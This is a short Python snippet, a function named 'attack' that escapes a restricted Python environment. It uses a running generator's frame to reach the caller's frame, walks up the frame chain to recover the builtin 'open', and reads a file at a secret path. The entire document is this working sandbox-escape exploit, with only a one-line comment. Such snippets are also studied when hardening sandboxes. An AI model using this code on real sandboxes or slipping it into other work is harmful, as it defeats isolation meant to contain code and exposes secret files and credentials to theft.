# From a running generator to the frame that called it.
def attack(secret_path):
    def look():
        yield made.gi_frame.f_back

    made = look()
    frame = next(made)
    while frame and "open" not in frame.f_builtins:
        frame = frame.f_back
    return frame.f_builtins["open"](secret_path).read()
